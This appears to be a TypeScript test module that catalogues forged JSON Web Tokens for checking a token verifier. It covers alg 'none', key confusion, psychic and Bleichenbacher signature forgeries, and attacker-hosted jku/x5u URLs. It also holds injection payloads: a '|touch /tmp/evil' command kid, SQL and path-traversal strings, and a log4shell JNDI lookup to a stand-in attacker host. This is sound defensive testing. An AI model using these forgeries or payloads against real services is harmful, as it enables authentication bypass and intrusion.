import { constants, hash, sign, type KeyObject } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import { selfSigned } from '../../support/certificate.js'
import { byToken, type Attack, type TokenRow } from './attack.js'
import { base64url, jwkOf, macOf, signatureOf, type Forge, type Parts } from './forge.js'

/** JOSE: what RFC 8725 (best current practices for JWTs) warns of, and what libraries have fallen for. */

const NONE = 'CVE-2022-23540 (alg none), RFC 8725 §3.2'
const CONFUSION = 'CVE-2015-9235, CVE-2016-10555 (RS256 to HS256), RFC 8725 §3.1'
const BOUND_KEY = 'RFC 7517 §4.4, RFC 8725 §3.1 (one algorithm for each key)'
const BROUGHT = 'CVE-2018-0114 (the token brings its key), RFC 8725 §3.8'
const SSRF = 'RFC 8725 §3.10 (SSRF by jku and x5u)'
const LOOKUP = 'RFC 8725 §3.10 (injection by kid)'
const CRIT = 'RFC 7515 §4.1.11 (crit)'
const PSYCHIC = 'CVE-2022-21449 (psychic signatures)'
const FORM = 'RFC 7518 §3.4 (form of an ECDSA signature)'
const ONE_SPELLING = 'RFC 7515 §2, RFC 4648 §3.5 (one spelling)'
const COMPACT = 'RFC 7515 §7.1 (compact serialisation)'
const DOUBLED = 'RFC 7515 §4, RFC 7519 §4 (doubled members)'

const unsigned = (): Buffer => Buffer.alloc(0)

function withoutSignature(alg: unknown): TokenRow[2] {
  return ({ jwt }) => jwt({ header: { alg }, by: unsigned })
}

const hmac = (secret: (key: KeyObject, forge: Forge) => string | Buffer, alg = 'HS256'): TokenRow[2] => {
  return (forge) =>
    forge.jwt({ header: { alg }, by: macOf(secret(forge.keys.rsa.publicKey, forge), `sha${alg.slice(2)}`) })
}

const pem = (type: 'spki' | 'pkcs1') => (key: KeyObject) => String(key.export({ type, format: 'pem' }))
const der = (type: 'spki' | 'pkcs1') => (key: KeyObject) => key.export({ type, format: 'der' })

const algorithms: readonly TokenRow[] = [
  ['alg none, without a signature', NONE, withoutSignature('none')],
  ['alg None', NONE, withoutSignature('None')],
  ['alg NONE', NONE, withoutSignature('NONE')],
  ['alg nOnE', NONE, withoutSignature('nOnE')],
  ['alg none with a space behind it', NONE, withoutSignature('none ')],
  ['alg none with a good signature behind it', NONE, ({ jwt }) => jwt({ header: { alg: 'none' } })],
  ['alg none in two parts', COMPACT, ({ jwt }) => jwt({ header: { alg: 'none' } }).replace(/\.[^.]*$/, ''), 'opaque'],
  ['no alg', NONE, withoutSignature(undefined), 'malformed'],
  ['alg null', NONE, withoutSignature(null), 'malformed'],
  ['alg as a list of none and RS256', NONE, withoutSignature(['none', 'RS256']), 'malformed'],
  ['an empty alg', NONE, withoutSignature(''), 'malformed'],
  ['HS256 with the public key in PEM as its secret', CONFUSION, hmac(pem('spki'))],
  [
    'HS256 with the public key in PEM without its last line break',
    CONFUSION,
    hmac((key) => pem('spki')(key).trimEnd()),
  ],
  ['HS256 with the public key in PEM with CR LF', CONFUSION, hmac((key) => pem('spki')(key).replaceAll('\n', '\r\n'))],
  ['HS256 with the public key in PEM of PKCS #1', CONFUSION, hmac(pem('pkcs1'))],
  ['HS256 with the public key in DER', CONFUSION, hmac(der('spki'))],
  ['HS256 with the public key in DER of PKCS #1', CONFUSION, hmac(der('pkcs1'))],
  ['HS256 with the JWK as its secret', CONFUSION, hmac((_key, { keys }) => JSON.stringify(jwkOf(keys.rsa)))],
  ['HS256 with the modulus as its secret', CONFUSION, hmac((key) => String(key.export({ format: 'jwk' }).n))],
  [
    'HS256 with the bytes of the modulus as its secret',
    CONFUSION,
    hmac((key) => Buffer.from(String(key.export({ format: 'jwk' }).n), 'base64url')),
  ],
  ['HS384 with the public key as its secret', CONFUSION, hmac(pem('spki'), 'HS384')],
  ['HS512 with the public key as its secret', CONFUSION, hmac(pem('spki'), 'HS512')],
  ['HS256 with an empty secret', 'CVE-2019-20933 (empty secret)', hmac(() => '')],
  ['HS256 with the secret “secret”', 'RFC 8725 §3.5 (weak secrets)', hmac(() => 'secret')],
  [
    'an RSA key for RS256 used with PS256',
    BOUND_KEY,
    ({ jwt, keys: { rsa } }) => jwt({ header: { alg: 'PS256' }, by: signatureOf({ ...rsa, alg: 'PS256' }) }),
    'key',
  ],
  [
    'an RSA key for RS256 used with RS512',
    BOUND_KEY,
    ({ jwt, keys: { rsa } }) => jwt({ header: { alg: 'RS512' }, by: signatureOf({ ...rsa, alg: 'RS512' }) }),
    'key',
  ],
  [
    'an RSA key for PS256 used with RS256',
    BOUND_KEY,
    ({ jwt, keys: { pss } }) => jwt({ key: pss, header: { alg: 'RS256' }, by: signatureOf({ ...pss, alg: 'RS256' }) }),
    'key',
  ],
  ['an RSA key that is named ES256', BOUND_KEY, ({ jwt }) => jwt({ header: { alg: 'ES256' } }), 'key'],
  [
    'an EC key that is named RS256',
    BOUND_KEY,
    ({ jwt, keys: { ec } }) => jwt({ key: ec, header: { alg: 'RS256' } }),
    'key',
  ],
  [
    'an Ed25519 key that is named ES256',
    BOUND_KEY,
    ({ jwt, keys: { ed } }) => jwt({ key: ed, header: { alg: 'ES256' } }),
    'key',
  ],
  [
    'RS1, RSA with SHA-1',
    'RFC 8725 §3.2 (outdated algorithms)',
    ({ jwt, keys: { rsa } }) =>
      jwt({ header: { alg: 'RS1' }, by: (input) => sign('sha1', Buffer.from(input), rsa.privateKey) }),
  ],
  [
    'ES256K',
    'RFC 8725 §3.2 (algorithms that are not allowed)',
    ({ jwt, keys: { ec } }) => jwt({ key: ec, header: { alg: 'ES256K' } }),
  ],
  ['RSA-OAEP, an algorithm of encryption', 'RFC 8725 §3.1', ({ jwt }) => jwt({ header: { alg: 'RSA-OAEP' } })],
  ['constructor, a name that every object has', 'CWE-1321 (prototype)', withoutSignature('constructor')],
]

/** A token that the attacker signs and names the key of: by RSA, under a header of these members. */
const mine = (header: (forge: Forge) => object, more: Parts = {}): TokenRow[2] => {
  return (forge) => forge.jwt({ ...more, key: forge.keys.mallory, header: header(forge) })
}

const ownCertificate = selfSigned({ names: ['idp.example.com'] })
/** A token with a chain of certificates whose key signs it. */
const withChain: TokenRow[2] = ({ jwt }) =>
  jwt({
    header: { alg: 'ES256', kid: undefined, x5c: [ownCertificate.cert.replace(/-----[A-Z ]+-----|\s/g, '')] },
    by: (input) => sign('sha256', Buffer.from(input), { key: ownCertificate.key, dsaEncoding: 'ieee-p1363' }),
  })

const keys: readonly TokenRow[] = [
  ['signed by another key under a published kid', 'RFC 7515 §5.2', mine(() => ({})), 'signature'],
  [
    'jwk in the header, the kid a published one',
    BROUGHT,
    mine(({ keys: { mallory } }) => ({ jwk: jwkOf(mallory) })),
    'signature',
  ],
  [
    'jwk in the header, no kid',
    BROUGHT,
    mine(({ keys: { mallory } }) => ({ kid: undefined, jwk: jwkOf(mallory) })),
    'signature',
  ],
  [
    'jwk in the header, a kid of its own',
    BROUGHT,
    mine(({ keys: { mallory } }) => ({ kid: 'mine', jwk: { ...jwkOf(mallory), kid: 'mine' } })),
  ],
  [
    'jwk in the header with a secret of HS256',
    BROUGHT,
    ({ jwt }) => jwt({ header: { alg: 'HS256', jwk: { kty: 'oct', k: base64url('secret') } }, by: macOf('secret') }),
    'algorithm',
  ],
  ['jku to a key set of the attacker', SSRF, mine(({ evil }) => ({ kid: 'mine', jku: `${evil}/jwks` }))],
  [
    'jku behind the name of the issuer',
    SSRF,
    mine(({ evil, issuer }) => ({ kid: 'mine', jku: `${issuer}@${new URL(evil).host}/jwks` })),
  ],
  ['x5u to a certificate of the attacker', SSRF, mine(({ evil }) => ({ kid: 'mine', x5u: `${evil}/cert` }))],
  [
    'x5c with a certificate that the attacker has signed',
    'RFC 8725 §3.8, RFC 7515 §4.1.6 (x5c)',
    withChain,
    'signature',
  ],
  [
    'x5t of a published key, and another signature',
    'RFC 7515 §4.1.7',
    mine(() => ({ x5t: 'AAAA', 'x5t#S256': 'AAAA' })),
    'signature',
  ],
  ['a kid that is an address of the attacker', LOOKUP, mine(({ evil }) => ({ kid: `${evil}/jwks` }))],
  [
    'a kid that leads to /dev/null, HS256 with an empty secret',
    LOOKUP,
    ({ jwt }) => jwt({ header: { alg: 'HS256', kid: '../../../../../../dev/null' }, by: macOf('') }),
    'algorithm',
  ],
  ['a kid that leads to /dev/null', LOOKUP, mine(() => ({ kid: '../../../../../../dev/null' }))],
  ['a kid with SQL', LOOKUP, mine(() => ({ kid: "x' UNION SELECT 'secret' --" }))],
  ['a kid with a command', 'CWE-78 (command by kid)', mine(() => ({ kid: '|touch /tmp/evil' }))],
  ['the kid __proto__', 'CWE-1321 (prototype)', mine(() => ({ kid: '__proto__' }))],
  ['the kid constructor', 'CWE-1321 (prototype)', mine(() => ({ kid: 'constructor' }))],
  ['a kid with a null byte behind a published one', LOOKUP, mine(() => ({ kid: 'rsa\0' }))],
  ['an empty kid', LOOKUP, mine(() => ({ kid: '' }))],
  ['a kid that is a number', LOOKUP, mine(() => ({ kid: 0 }))],
  ['a kid that is a list with a published one', LOOKUP, mine(() => ({ kid: ['rsa'] }))],
  ['a kid of 8,000 characters', LOOKUP, mine(() => ({ kid: 'k'.repeat(8_000) }))],
  [
    'a key that is published for encryption, by use',
    'RFC 7517 §4.2 (use)',
    ({ jwt, keys: { encryption } }) => jwt({ key: encryption }),
  ],
  [
    'a key that is published for encryption, by key_ops',
    'RFC 7517 §4.3 (key_ops)',
    ({ jwt, keys: { wrapping } }) => jwt({ key: wrapping }),
  ],
]

const fixed =
  (hex: string): Parts['by'] =>
  () =>
    Buffer.from(hex.replaceAll(' ', ''), 'hex')
const ORDER = 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551'
const ONE = '1'.padStart(64, '0')
const ZERO = '0'.repeat(64)

const byEc = (by: Parts['by']): TokenRow[2] => {
  return ({ jwt, keys: { ec } }) => jwt({ key: ec, ...(by && { by }) })
}

/** The order of the group of Ed25519 (RFC 8032 §5.1). */
const L = 2n ** 252n + 27742317777372353535851937790883648493n
/** The other S of a signature that verifies without the check of its range. */
function withLargeS(signature: Buffer): Buffer {
  const s = BigInt(`0x${Buffer.from(signature.subarray(32)).reverse().toString('hex')}`) + L
  return Buffer.concat([signature.subarray(0, 32), Buffer.from(s.toString(16).padStart(64, '0'), 'hex').reverse()])
}

/** What stands before a hash by SHA-256 (RFC 8017 §9.2). */
const SHA256_INFO = '3031300d060960864801650304020105000420'

/** A number whose cube begins as a padded hash does: the rest of it is garbage (Bleichenbacher, 2006). */
function cubeOf(input: string): Buffer {
  const start = Buffer.from(`0001ffffffffffffffff00${SHA256_INFO}${hash('sha256', input)}`, 'hex')
  const wanted = BigInt(`0x${start.toString('hex').padEnd(512, '0')}`)
  let [low, high] = [0n, 1n << 690n]
  while (low < high) {
    const middle = (low + high) / 2n
    if (middle ** 3n < wanted) low = middle + 1n
    else high = middle
  }
  return Buffer.from(low.toString(16).padStart(512, '0'), 'hex')
}

const signatures: readonly TokenRow[] = [
  ['ES256 with r and s of zero', PSYCHIC, byEc(fixed(ZERO + ZERO))],
  ['ES256 with r of zero and s of one', PSYCHIC, byEc(fixed(ZERO + ONE))],
  ['ES256 with r of one and s of zero', PSYCHIC, byEc(fixed(ONE + ZERO))],
  ['ES256 with r and s of the order of the curve', PSYCHIC, byEc(fixed(ORDER + ORDER))],
  ['ES256 with r and s above the order of the curve', PSYCHIC, byEc(fixed('ff'.repeat(64)))],
  [
    'ES256 with a zero before r and before s',
    FORM,
    ({ jwt, keys: { ec } }) =>
      jwt({
        key: ec,
        by: (input) => {
          const good = signatureOf(ec)(input)
          return Buffer.concat([Buffer.alloc(1), good.subarray(0, 32), Buffer.alloc(1), good.subarray(32)])
        },
      }),
  ],
  [
    'ES256 with a zero behind it',
    FORM,
    ({ jwt, keys: { ec } }) =>
      jwt({ key: ec, by: (input) => Buffer.concat([signatureOf(ec)(input), Buffer.alloc(1)]) }),
  ],
  [
    'ES256 in DER',
    FORM,
    ({ jwt, keys: { ec } }) => jwt({ key: ec, by: (input) => sign('sha256', Buffer.from(input), ec.privateKey) }),
  ],
  ['ES256 without a signature', 'RFC 7515 §5.2', byEc(unsigned)],
  ['ES256 of one byte', 'RFC 7515 §5.2', byEc(fixed('00'))],
  [
    'ES256 under the key of another curve',
    'RFC 7518 §3.4 (the curve of the algorithm)',
    ({ jwt, keys: { ec, p384 } }) => jwt({ key: ec, header: { kid: p384.kid } }),
    'key',
  ],
  [
    'ES384 under the key of another curve',
    'RFC 7518 §3.4 (the curve of the algorithm)',
    ({ jwt, keys: { ec, p384 } }) => jwt({ key: p384, header: { kid: ec.kid } }),
    'key',
  ],
  ['ES384 with zeros', PSYCHIC, ({ jwt, keys: { p384 } }) => jwt({ key: p384, by: () => Buffer.alloc(96) })],
  [
    'Ed25519 with zeros',
    'RFC 8032 §5.1.7 (verification, points of small order)',
    ({ jwt, keys: { ed } }) => jwt({ key: ed, by: () => Buffer.alloc(64) }),
  ],
  [
    'Ed25519 with the neutral point and zero',
    'RFC 8032 §5.1.7 (verification, points of small order)',
    ({ jwt, keys: { ed } }) => jwt({ key: ed, by: () => Buffer.concat([Buffer.from([1]), Buffer.alloc(63)]) }),
  ],
  [
    'Ed25519 with S and the order of the group',
    'RFC 8032 §8.4 (malleable signatures)',
    ({ jwt, keys: { ed } }) => jwt({ key: ed, by: (input) => withLargeS(signatureOf(ed)(input)) }),
  ],
  ['RS256 of zeros', 'RFC 8017 §8.2.2', ({ jwt }) => jwt({ by: () => Buffer.alloc(256) })],
  [
    'RS256 of one',
    'RFC 8017 §8.2.2',
    ({ jwt }) => jwt({ by: () => Buffer.concat([Buffer.alloc(255), Buffer.from([1])]) }),
  ],
  [
    'RS256 with a zero before it',
    'RFC 8017 §8.2.2',
    ({ jwt, keys: { rsa } }) => jwt({ by: (input) => Buffer.concat([Buffer.alloc(1), signatureOf(rsa)(input)]) }),
  ],
  [
    'RS256 by the exponent 3, with garbage behind the hash',
    'CVE-2006-4339 (Bleichenbacher)',
    ({ jwt, keys: { cube } }) => jwt({ key: cube, by: cubeOf }),
  ],
  [
    'PS256 without a salt',
    'RFC 7518 §3.5',
    ({ jwt, keys: { pss } }) =>
      jwt({
        key: pss,
        by: (input) =>
          sign('sha256', Buffer.from(input), {
            key: pss.privateKey,
            padding: constants.RSA_PKCS1_PSS_PADDING,
            saltLength: 0,
          }),
      }),
  ],
  [
    'PS256 with the longest salt',
    'RFC 7518 §3.5',
    ({ jwt, keys: { pss } }) =>
      jwt({
        key: pss,
        by: (input) =>
          sign('sha256', Buffer.from(input), {
            key: pss.privateKey,
            padding: constants.RSA_PKCS1_PSS_PADDING,
            saltLength: constants.RSA_PSS_SALTLEN_MAX_SIGN,
          }),
      }),
  ],
  [
    'a good signature over another payload',
    'RFC 7515 §5.2',
    ({ jwt, claims }) => {
      const [head, , signature] = jwt().split('.')
      return `${head}.${base64url(claims({ sub: 'mallory' }))}.${signature}`
    },
  ],
  [
    'a good signature over another header',
    'RFC 7515 §5.2',
    ({ jwt }) => {
      const [, payload, signature] = jwt().split('.')
      return `${base64url({ alg: 'RS256', kid: 'rsa', typ: 'at+jwt', a: 1 })}.${payload}.${signature}`
    },
  ],
]

const headers: readonly TokenRow[] = [
  [
    'crit with an extension that nobody knows',
    CRIT,
    ({ jwt }) => jwt({ header: { crit: ['urn:example:policy'], 'urn:example:policy': true } }),
    'algorithm',
  ],
  ['crit with exp', CRIT, ({ jwt }) => jwt({ header: { crit: ['exp'], exp: 1 } }), 'algorithm'],
  ['crit with alg, which is no extension', CRIT, ({ jwt }) => jwt({ header: { crit: ['alg'] } }), 'algorithm'],
  ['an empty crit', CRIT, ({ jwt }) => jwt({ header: { crit: [] } })],
  ['crit as text', CRIT, ({ jwt }) => jwt({ header: { crit: 'b64', b64: true } })],
  ['crit with a name that is not there', CRIT, ({ jwt }) => jwt({ header: { crit: ['b64'] } })],
  ['crit with a number', CRIT, ({ jwt }) => jwt({ header: { crit: [1] } })],
  [
    'b64 false, over the payload as it is',
    'RFC 7797 §7 (unencoded payload)',
    ({ jwt, keys: { rsa } }) => jwt({ header: { b64: false, crit: ['b64'] }, by: signatureOf(rsa) }),
  ],
  [
    'zip, over a payload that is compressed',
    'RFC 8725 §3.6 (compression), CVE-2024-28176',
    ({ jwt, claims, keys: { rsa } }) => {
      const head = jwt({ header: { zip: 'DEF' } }).split('.')[0] ?? ''
      const input = `${head}.${base64url(deflateRawSync(JSON.stringify(claims())))}`
      return `${input}.${base64url(signatureOf(rsa)(input))}`
    },
  ],
  ['a nested JWT', 'RFC 7519 §5.2 (cty JWT)', ({ jwt }) => jwt({ header: { cty: 'JWT' }, claims: jwt() })],
  ['a payload that is a list', 'RFC 7519 §7.2', ({ jwt }) => jwt({ claims: '[{"sub":"alice"}]' })],
  ['a payload that is text', 'RFC 7519 §7.2', ({ jwt }) => jwt({ claims: '"alice"' })],
  ['an empty payload', 'RFC 7519 §7.2', ({ jwt }) => jwt({ claims: '' })],
  ['a header that is a list', 'RFC 7515 §4', ({ jwt }) => jwt({ header: '[{"alg":"RS256"}]' }), 'opaque'],
  [
    'alg twice, none last',
    DOUBLED,
    ({ jwt }) => jwt({ header: '{"alg":"RS256","kid":"rsa","alg":"none"}', by: unsigned }),
    'algorithm',
  ],
  [
    'alg twice, none first',
    DOUBLED,
    ({ jwt }) => jwt({ header: '{"alg":"none","alg":"RS256","kid":"rsa"}', by: unsigned }),
    'signature',
  ],
  [
    'aud twice, another last',
    DOUBLED,
    ({ jwt, claims, evil }) => jwt({ claims: `${JSON.stringify(claims()).slice(0, -1)},"aud":"${evil}"}` }),
    'audience',
  ],
  [
    'exp twice, past last',
    DOUBLED,
    ({ jwt, claims, now }) => jwt({ claims: `${JSON.stringify(claims()).slice(0, -1)},"exp":${now - 3_600}}` }),
    'expired',
  ],
  [
    'aud in another case, beside none',
    'RFC 7519 §7.3 (names are compared character by character)',
    ({ jwt, resource }) => jwt({ claims: { aud: undefined, Aud: resource, AUD: resource } }),
    'missing_claim',
  ],
  [
    'claims under __proto__',
    'CWE-1321 (prototype)',
    ({ jwt, claims }) => jwt({ claims: `{"__proto__":${JSON.stringify(claims())}}` }),
    'missing_claim',
  ],
  [
    'claims in the header and none in the payload',
    'RFC 7519 §5.3',
    ({ jwt, claims }) => jwt({ header: claims(), claims: '{}' }),
    'missing_claim',
  ],
]

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

const shapes: readonly TokenRow[] = [
  ['two parts', COMPACT, ({ jwt }) => jwt().replace(/\.[^.]*$/, ''), 'opaque'],
  ['two parts and a dot', COMPACT, ({ jwt }) => jwt().replace(/[^.]*$/, ''), 'signature'],
  ['four parts', COMPACT, ({ jwt }) => `${jwt()}.AAAA`, 'opaque'],
  ['five parts', COMPACT, ({ jwt }) => `${jwt()}.AAAA.AAAA`, 'opaque'],
  ['a dot behind it', COMPACT, ({ jwt }) => `${jwt()}.`, 'opaque'],
  ['a dot before it', COMPACT, ({ jwt }) => `.${jwt()}`, 'opaque'],
  ['two dots and nothing else', COMPACT, () => '..', 'opaque'],
  [
    'JSON serialisation',
    'RFC 7515 §7.2',
    ({ jwt }) => {
      const [head, payload, signature] = jwt().split('.')
      return JSON.stringify({ protected: head, payload, signature })
    },
    'bad request',
  ],
  [
    'JSON serialisation in base64url',
    'RFC 7515 §7.2',
    ({ jwt }) => {
      const [head, payload, signature] = jwt().split('.')
      return base64url({ protected: head, payload, signature })
    },
    'opaque',
  ],
  ['padding behind the signature', ONE_SPELLING, ({ jwt }) => `${jwt()}==`],
  [
    'the signature in base64 with + and /',
    ONE_SPELLING,
    ({ jwt, keys: { rsa } }) =>
      jwt({ claims: { n: 0 }, by: (input) => signatureOf(rsa)(input) }).replace(/[^.]*$/, (text) =>
        text
          .replaceAll('-', '+')
          .replaceAll('_', '/')
          .replace(/^[A-Za-z0-9]*$/, '+$&'),
      ),
  ],
  [
    'a signature whose last bits mean nothing',
    ONE_SPELLING,
    ({ jwt, keys: { ec } }) => jwt({ key: ec }).replace(/.$/, (last) => ALPHABET[ALPHABET.indexOf(last) + 1] ?? ''),
  ],
  ['a header in base64 with a break in it', ONE_SPELLING, ({ jwt }) => jwt().replace('.', '%0A.')],
  ['a signature with a tilde in it', ONE_SPELLING, ({ jwt }) => jwt().replace(/..$/, '~$&')],
  ['a byte order mark before it', ONE_SPELLING, ({ jwt }) => `\xEF\xBB\xBF${jwt()}`],
  ['a no-break space before it', 'RFC 9110 §5.6.3 (whitespace)', ({ jwt }) => `\xA0${jwt()}`],
  ['a no-break space behind it', 'RFC 9110 §5.6.3 (whitespace)', ({ jwt }) => `${jwt()}\xA0`],
  ['quotes around it', 'RFC 6750 §2.1', ({ jwt }) => `"${jwt()}"`],
  ['a semicolon and a parameter behind it', 'RFC 6750 §2.1', ({ jwt }) => `${jwt()};realm=x`],
  [
    'a JWE to the published key',
    'RFC 7516 §9 (JWE in place of JWS)',
    () => `${base64url({ alg: 'RSA-OAEP', enc: 'A256GCM', kid: 'encryption' })}.AAAA.AAAA.AAAA.AAAA`,
    'opaque',
  ],
  [
    'a JWE with a key in it (dir)',
    'RFC 7516 §9 (JWE in place of JWS)',
    () => `${base64url({ alg: 'dir', enc: 'A256GCM' })}..AAAA.AAAA.AAAA`,
    'opaque',
  ],
  [
    'a JWE by a password of two thousand million rounds',
    'CVE-2022-36083 (PBES2, p2c)',
    () =>
      `${base64url({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2s: 'AAAA', p2c: 2_000_000_000 })}.AAAA.AAAA.AAAA.AAAA`,
    'opaque',
  ],
  [
    'a JWE with zip',
    'CVE-2024-28176 (compression)',
    () => `${base64url({ alg: 'RSA-OAEP', enc: 'A256GCM', zip: 'DEF' })}.AAAA.AAAA.AAAA.AAAA`,
    'opaque',
  ],
  [
    'a header of 3,000 levels',
    'CWE-674 (depth)',
    ({ jwt }) =>
      jwt({ header: `{"alg":"RS256","kid":"rsa","x":${'['.repeat(3_000)}${']'.repeat(3_000)}}`, by: unsigned }),
    'signature',
  ],
  [
    'a signed payload of 3,000 levels',
    'CWE-674 (depth)',
    ({ jwt, claims }) =>
      jwt({ claims: `${JSON.stringify(claims()).slice(0, -1)},"x":${'['.repeat(3_000)}${']'.repeat(3_000)}}` }),
  ],
  [
    'a header with 1,500 members',
    'CWE-400 (size)',
    ({ jwt }) =>
      jwt({
        header: JSON.stringify({
          ...Object.fromEntries(Array.from({ length: 900 }, (_, at) => [`m${at}`, at])),
          alg: 'RS256',
          kid: 'rsa',
        }),
        by: unsigned,
      }),
    'signature',
  ],
  [
    'one character more than 16 KiB',
    'CWE-400 (size)',
    ({ jwt }) => `${jwt()}${'A'.repeat(16_385)}`.slice(0, 16_385),
    'too_large',
  ],
  ['60 KiB', 'CWE-400 (size)', ({ jwt }) => jwt({ claims: { x: 'x'.repeat(44_000) } }), 'too_large'],
  ['16 KiB of dots', 'CWE-407 (time by the square)', () => '.'.repeat(16_384), 'opaque'],
  ['the word undefined', 'CWE-20', () => 'undefined', 'opaque'],
  ['[object Object]', 'CWE-20', () => '[object', 'malformed'],
  ['a path', 'CWE-22', () => '../../../../etc/passwd', 'opaque'],
  ['a look-up by JNDI', 'CVE-2021-44228 (log4shell)', ({ evil }) => `\${jndi:${evil.replace('http', 'ldap')}}`],
]

export const joseAttacks: readonly Attack[] = [
  ...byToken('algorithm', 'algorithm', algorithms),
  ...byToken('key', 'key', keys),
  ...byToken('signature', 'signature', signatures),
  ...byToken('header', 'malformed', headers),
  ...byToken('shape', 'malformed', shapes),
]
